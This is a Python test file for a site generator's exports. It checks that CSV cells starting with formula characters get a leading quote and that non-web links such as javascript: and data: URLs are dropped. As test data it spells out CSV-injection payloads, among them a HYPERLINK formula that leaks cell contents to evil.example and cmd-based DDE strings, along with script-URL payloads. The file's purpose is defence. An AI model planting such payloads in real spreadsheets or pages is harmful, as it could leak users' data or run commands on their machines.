"""Exports that other programs open: papers.csv never hands a spreadsheet a formula (OWASP's CSV
injection rule), and no export or page carries a link that is not http(s)."""

from __future__ import annotations

import csv
import io
import json

from conftest import FIXTURES, copy_project, run_cli
from hypothesis import given
from hypothesis import strategies as st

from generator.model import PageInfo, Paper, Source, web_links
from generator.site.exports import CSV_COLUMNS, FORMULA_START, render_csv, render_exports, spreadsheet_safe
from generator.site.paper import render_paper

# Cell texts a spreadsheet would run, from OWASP's "CSV Injection" page and issue #12.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def record(**values) -> dict:
    return {col: values.get(col) for col in CSV_COLUMNS} | {"tags": [], "author_names": [], "links": []}


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_formula_cells_get_a_leading_quote_and_other_cells_stay_as_they_are():
    rows = cells(render_csv([record(title=f, abstract=f, acronym="x") for f in FORMULAS]))
    for formula, row in zip(FORMULAS, rows[1:], strict=True):
        by_name = dict(zip(CSV_COLUMNS, row, strict=True))
        assert by_name["title"] == by_name["abstract"] == "'" + formula.replace("\r", "\n")
        assert by_name["acronym"] == "x"
    assert spreadsheet_safe("Attention is all you need") == "Attention is all you need"
    assert spreadsheet_safe("a = b") == "a = b" and spreadsheet_safe("") == ""


TRICKY = st.text(alphabet="=+-@\t\r\n,;\"' aé")  # formula starts, separators, quotes, line breaks


@given(st.lists(st.one_of(st.text(), TRICKY, st.sampled_from(FORMULAS)), min_size=1, max_size=4))
def test_no_cell_of_the_csv_starts_a_formula_and_each_reads_back_to_its_text(texts):
    records = [record(title=t, abstract=t, venue=t, tags=[t, t]) for t in texts]
    for row, text in zip(cells(render_csv(records))[1:], texts, strict=True):
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
        title = dict(zip(CSV_COLUMNS, row, strict=True))["title"]
        # exact, but that a line break reads back as a line feed (a lone CR used to split the row)
        expected = "'" + text if text.startswith(FORMULA_START) else text
        assert title == expected.replace("\r\n", "\n").replace("\r", "\n")


def test_only_web_links_reach_a_page_the_feed_and_the_exports():
    links = ("javascript:alert(1)", "data:text/html,<script>alert(2)</script>", "https://ok.example/a", "http://x.y/z")
    paper = Paper(
        title="T",
        abstract="An abstract.",
        sources=(Source("abstracts/a.txt", 1),),
        links=links,
        pdf_url="javascript:alert(3)",
        topic="other",
        slug="t",
        id="1",
    )
    info = PageInfo(slug="t", title="T", topic="other", tags=(), status="to-read", rating=None, published=None, added=0)
    assert web_links(links) == ["https://ok.example/a", "http://x.y/z"]
    files = render_exports([paper], [info], "https://me.example/")
    page = render_paper(paper, [])
    for text in (*files.values(), page):
        assert "javascript:" not in text and "data:text" not in text
    record = json.loads(files["papers.json"])["papers"][0]
    assert record["links"] == ["https://ok.example/a", "http://x.y/z"] and record["pdf_url"] is None


def test_formula_titles_from_a_pasted_listing_are_quoted_in_papers_csv(tmp_path):
    root = copy_project(tmp_path, abstracts=False)
    (root / "abstracts" / "script-titles.txt").write_bytes((FIXTURES / "hostile" / "script-titles.txt").read_bytes())
    run_cli(root, "import", "-q")
    rows = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in cells((root / "content/papers.csv").read_text())[1:]]
    titles = {row["title"] for row in rows}
    for start in ("'=HYPERLINK(", "'-2+3 Marmot", "'@SUM(1+1) Tapir"):
        assert any(title.startswith(start) for title in titles), (start, titles)
    # papers.json keeps the titles exactly as pasted: only the spreadsheet export is quoted
    doc = json.loads((root / "content/papers.json").read_text())
    assert any(p["title"].startswith("=HYPERLINK(") for p in doc["papers"])
